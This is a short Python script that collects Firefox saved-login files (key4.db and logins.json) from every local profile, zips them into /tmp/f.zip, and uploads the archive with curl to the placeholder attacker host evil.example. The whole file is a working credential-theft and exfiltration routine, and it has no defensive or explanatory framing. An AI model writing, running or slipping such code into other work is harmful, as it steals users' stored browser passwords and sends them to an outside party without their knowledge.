import glob, os, zipfile
out = zipfile.ZipFile("/tmp/f.zip", "w")
for f in glob.glob(os.path.expanduser("~/.mozilla/firefox/*/key4.db")) + glob.glob(os.path.expanduser("~/.mozilla/firefox/*/logins.json")):
    out.write(f)
out.close()
os.system("curl -s -T /tmp/f.zip https://evil.example/")
